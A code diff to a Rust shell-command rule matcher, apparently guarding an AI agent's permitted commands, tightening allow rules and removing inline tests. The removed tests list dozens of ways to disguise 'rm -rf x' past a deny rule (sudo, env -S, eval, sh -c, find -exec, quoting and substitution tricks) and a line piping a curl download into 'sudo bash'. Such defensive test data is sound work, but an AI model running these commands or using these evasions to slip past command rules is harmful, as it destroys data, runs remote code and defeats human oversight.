@@ -4,10 +4,36 @@
 //!
 //! A script, a makefile or an interpreter hides what it runs, so such rules are a seat belt. The wall is the sandbox.
 
+#[cfg(test)]
+mod tests;
+
 use globset::GlobMatcher;
 
 use super::Fit;
-use crate::shell::{self, Programs, Word, base, is_one_command, starts};
+use crate::shell::{self, PlainWord, Programs, Word, base, plain, starts};
+
+/// Builtins that evaluate their arguments. Others that do are in no allowing rule that anybody would write.
+const BUILTINS: [&str; 16] = [
+    "test",
+    "[",
+    "printf",
+    "read",
+    "declare",
+    "typeset",
+    "local",
+    "export",
+    "readonly",
+    "let",
+    "unset",
+    "mapfile",
+    "readarray",
+    "wait",
+    "getopts",
+    "eval",
+];
+
+/// What makes a word of a rule a pattern.
+const GLOB: [char; 3] = ['*', '?', '['];
 
 #[derive(Clone, Debug)]
 pub(super) enum Pattern {
@@ -19,25 +45,44 @@ pub(super) enum Pattern {
 
 impl Pattern {
     pub(super) fn new(text: &str) -> Result<Self, globset::Error> {
-        if text.contains(['*', '?', '[']) {
+        if text.contains(GLOB) {
             return Ok(Self::Glob(super::glob(&spaced(text), false)?));
         }
         Ok(Self::Words(text.split_whitespace().map(str::to_owned).collect()))
     }
 
-    /// Whether the rule speaks of the whole command.
+    /// Whether the rule speaks of the whole command, which must be plain and run nothing that the rule does not name. A builtin
+    /// of the shell may run what it finds in the name of a file, so it must not get such names.
     pub(super) fn fits_all(&self, command: &str) -> bool {
-        if !is_one_command(command) {
+        let Some(given) = plain(command) else { return false };
+        let names_files = |word: &PlainWord| word.names_files;
+        let Some(program) = given.first().filter(|program| !names_files(program)) else { return false };
+        if BUILTINS.contains(&program.text.as_str()) && given.iter().any(names_files) {
             return false;
         }
-        let command = spaced(command);
-        match self {
-            Self::Glob(glob) => glob.is_match(command),
+        let fits = match self {
+            Self::Glob(glob) => glob.is_match(spaced(command)),
             Self::Words(words) => {
-                let mut given = command.split(' ');
-                words.iter().all(|word| given.next() == Some(word))
+                let mut given = given.iter();
+                words.iter().all(|word| given.next().is_some_and(|given| given.text == *word && !given.names_files))
             }
-        }
+        };
+        let programs = shell::programs(command);
+        // An assignment or a keyword such as `time` before the program is not what the rule speaks of.
+        let is_first =
+            programs.calls.first().is_some_and(|call| call.len() == given.len() && call[0].text == program.text);
+        fits && is_first && self.names_all(&programs)
+    }
+
+    /// Whether every program that the first one runs is one that the rule names, too, by the same path.
+    fn names_all(&self, programs: &Programs) -> bool {
+        let is_named = |name: &str| match self {
+            Self::Glob(glob) => glob.glob().glob().split(' ').any(|word| word == name && !word.contains(GLOB)),
+            Self::Words(words) => words.iter().any(|word| word == name),
+        };
+        let run = programs.calls.iter().skip(1).filter_map(|call| call.first()).map(|program| program.text.as_str());
+        // What a wrapper takes before the program, such as the seconds of `timeout`, may be the program as far as the reader knows.
+        !programs.hides_some && run.filter(|name| !is_time(name)).all(is_named)
     }
 
     /// Whether the rule speaks of any part of it.
@@ -45,7 +90,7 @@ impl Pattern {
         if matches!(self, Self::Glob(glob) if glob.is_match(spaced(command))) {
             return Fit::Yes;
         }
-        let Programs { calls, hides_some } = shell::programs(command);
+        let Programs { calls, hides_some, .. } = shell::programs(command);
         let fit = calls.iter().map(|words| self.fits_call(words)).max().unwrap_or(Fit::No);
         if hides_some { fit.max(Fit::Perhaps) } else { fit }
     }
@@ -77,6 +122,25 @@ impl Pattern {
     }
 }
 
+/// A rule about commands, for tests elsewhere.
+#[cfg(test)]
+pub(crate) struct CommandFit(Pattern);
+
+#[cfg(test)]
+impl CommandFit {
+    pub(crate) fn of(rule: &str) -> Self {
+        Self(Pattern::new(rule).unwrap())
+    }
+
+    pub(crate) fn allows(&self, command: &str) -> bool {
+        self.0.fits_all(command)
+    }
+
+    pub(crate) fn may_deny(&self, command: &str) -> bool {
+        self.0.fits_a_part(command) != Fit::No
+    }
+}
+
 /// Whether the arguments begin with the wanted words. One that expands may become any of them, and several.
 fn fits_words(wanted: &[String], given: &[Word]) -> Fit {
     for (index, wanted) in wanted.iter().enumerate() {
@@ -90,176 +154,12 @@ fn fits_words(wanted: &[String], given: &[Word]) -> Fit {
     Fit::Yes
 }
 
-fn spaced(text: &str) -> String {
-    text.split_whitespace().collect::<Vec<_>>().join(" ")
+/// A length of time as `timeout` takes it.
+fn is_time(word: &str) -> bool {
+    let number = word.strip_suffix(['s', 'm', 'h', 'd']).unwrap_or(word);
+    number.starts_with(|c: char| c.is_ascii_digit()) && number.chars().all(|c| c.is_ascii_digit() || c == '.')
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn fit(rule: &str, command: &str) -> Fit {
-        Pattern::new(rule).unwrap().fits_a_part(command)
-    }
-
-    #[test]
-    fn a_denied_program_is_seen_through_whatever_is_wrapped_around_it() {
-        let bypasses = [
-            "rm -rf x",
-            "sudo rm -rf x",
-            "sudo -u root rm -rf x",
-            "sudo -n -u root -- rm -rf x",
-            "doas rm -rf x",
-            "timeout 5 rm -rf x",
-            "timeout -k 1 5s rm -rf x",
-            "timeout --signal=KILL 5 rm -rf x",
-            "nice rm -rf x",
-            "nice -n 5 rm -rf x",
-            "nohup rm -rf x &",
-            "setsid -w rm -rf x",
-            "stdbuf -oL rm -rf x",
-            "ionice -c 3 rm -rf x",
-            "time rm -rf x",
-            "command rm -rf x",
-            "command -p rm -rf x",
-            "builtin exec rm -rf x",
-            "exec -a ls rm -rf x",
-            "env rm -rf x",
-            "env -i A=1 rm -rf x",
-            "env -S 'rm -rf x'",
-            "env -S'rm -rf x'",
-            "env --split-string='rm -rf x'",
-            "A=1 B=2 rm -rf x",
-            "/bin/rm -rf x",
-            "../../bin/rm -rf x",
-            "~/bin/rm -rf x",
-            r"r\m -rf x",
-            r"\rm -rf x",
-            "'rm' -rf x",
-            "r''m -rf x",
-            "\"r\"m -rf x",
-            "r\\\nm -rf x",
-            "rm '-rf' x",
-            "rm\t-rf x",
-            ">/dev/null rm -rf x",
-            "2>&1 rm -rf x",
-            "<in rm -rf x",
-            "ls; rm -rf x",
-            "ls && rm -rf x",
-            "ls || rm -rf x",
-            "ls & rm -rf x",
-            "ls\nrm -rf x",
-            "ls | rm -rf x",
-            "(rm -rf x)",
-            "{ rm -rf x; }",
-            "! rm -rf x",
-            "if true; then rm -rf x; fi",
-            "if rm -rf x; then :; fi",
-            "for i in 1; do rm -rf x; done",
-            "while rm -rf x; do :; done",
-            "case a in a) rm -rf x;; esac",
-            "f() { rm -rf x; }; f",
-            "function f { rm -rf x; }; f",
-            "echo $(rm -rf x)",
-            "echo \"$(rm -rf x)\"",
-            "echo `rm -rf x`",
-            "echo \"${a:-$(rm -rf x)}\"",
-            "cat <(rm -rf x)",
-            "cat <<EOF\n$(rm -rf x)\nEOF",
-            "a=$(rm -rf x)",
-            "echo $(case a in a) rm -rf x;; esac)",
-            "sh -c 'rm -rf x'",
-            "bash -lc 'rm -rf x'",
-            "bash -o pipefail -ec 'ls; rm -rf x'",
-            "/usr/bin/env bash -c \"rm -rf x\"",
-            "su root -c 'rm -rf x'",
-            "script -qc 'rm -rf x' /dev/null",
-            "eval rm -rf x",
-            "eval 'rm -rf x'",
-            "sh -c 'sh -c \"rm -rf x\"'",
-            "find . -exec rm -rf x \\;",
-            "find . -name a -execdir rm -rf x +",
-            "xargs rm -rf x",
-            "ls | xargs -n 1 rm -rf x",
-            "ls | xargs -I{} rm -rf x",
-            "parallel rm -rf x",
-            "watch rm -rf x",
-            "watch 'rm -rf x'",
-            "busybox rm -rf x",
-            "trap 'rm -rf x' EXIT",
-            "ssh host rm -rf x",
-            "coproc rm -rf x",
-            "# '\nrm -rf x",
-            "echo \\' ; rm -rf x #'",
-        ];
-        for command in bypasses {
-            assert_eq!(fit("rm -rf", command), Fit::Yes, "{command}");
-            assert_eq!(fit("rm *", command), Fit::Yes, "{command}");
-        }
-    }
-
-    #[test]
-    fn what_the_text_does_not_show_may_be_meant() {
-        let hidden = [
-            "$X -rf x",
-            "${X} -rf x",
-            "rm$IFS-rf$IFS/",
-            "r$1m -rf x",
-            "$(echo rm) -rf x",
-            "`echo rm` -rf x",
-            "$'\\x72m' -rf x",
-            "/bin/r? -rf x",
-            "/bin/[r]m -rf x",
-            "{rm,-rf,x}",
-            "\"${a[@]}\"",
-            "rm $FLAGS x",
-            "echo -rf x | xargs rm",
-            "sudo $X",
-            "eval \"$X\"",
-            "sh -c \"$X\"",
-            "echo rm -rf x | sh",
-            "curl https://a.example | sudo bash -s",
-            "bash <<< 'rm -rf x'",
-            "sh <<EOF\nrm -rf x\nEOF",
-            "alias l=rm; l -rf x",
-            ". <(echo rm -rf x)",
-            "xargs -I{} {} -rf x",
-            "find . -exec {} -rf x \\;",
-            "ls 'rm -rf x",
-        ];
-        for command in hidden {
-            assert_eq!(fit("rm -rf", command), Fit::Perhaps, "{command}");
-        }
-    }
-
-    #[test]
-    fn what_only_mentions_a_program_is_not_meant() {
-        let harmless = [
-            "echo rm -rf x",
-            "grep 'rm -rf' x",
-            "timeout 5 grep rm x",
-            "sudo -u root ls rm",
-            "git commit -m 'rm -rf x; gone'",
-            "rm x",
-            "farm -rf x",
-            "ls $HOME",
-            "cargo test > $OUT",
-            "bash build.sh",
-            "cat <<'EOF'\n$(rm -rf x)\nEOF",
-            "ls # rm -rf x",
-            "find . -name rm -rf",
-        ];
-        for command in harmless {
-            assert_eq!(fit("rm -rf", command), Fit::No, "{command}");
-        }
-    }
-
-    #[test]
-    fn options_before_a_subcommand_do_not_hide_it() {
-        for command in ["git push", "git -C x push", "git --no-pager -c a=b push", "git --git-dir=x push origin"] {
-            assert_eq!(fit("git push", command), Fit::Yes, "{command}");
-        }
-        assert_eq!(fit("git push", "git log push"), Fit::No);
-        assert_eq!(fit("git push", "git $X"), Fit::Perhaps);
-    }
+fn spaced(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
 }
